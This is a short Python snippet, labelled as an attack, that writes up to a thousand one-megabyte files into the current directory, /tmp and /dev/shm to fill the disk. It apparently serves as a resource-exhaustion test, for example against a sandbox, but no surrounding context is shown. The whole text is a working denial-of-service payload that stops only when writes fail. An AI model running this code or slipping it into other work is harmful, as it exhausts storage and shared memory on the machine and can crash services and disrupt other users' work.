# attack: fills the disk
for folder in (".", "/tmp", "/dev/shm"):
    try:
        for number in range(1000):
            with open(f"{folder}/big{number}", "wb") as file:
                file.write(b"x" * (1 << 20))
    except OSError as error:
        print("STOPPED", error)
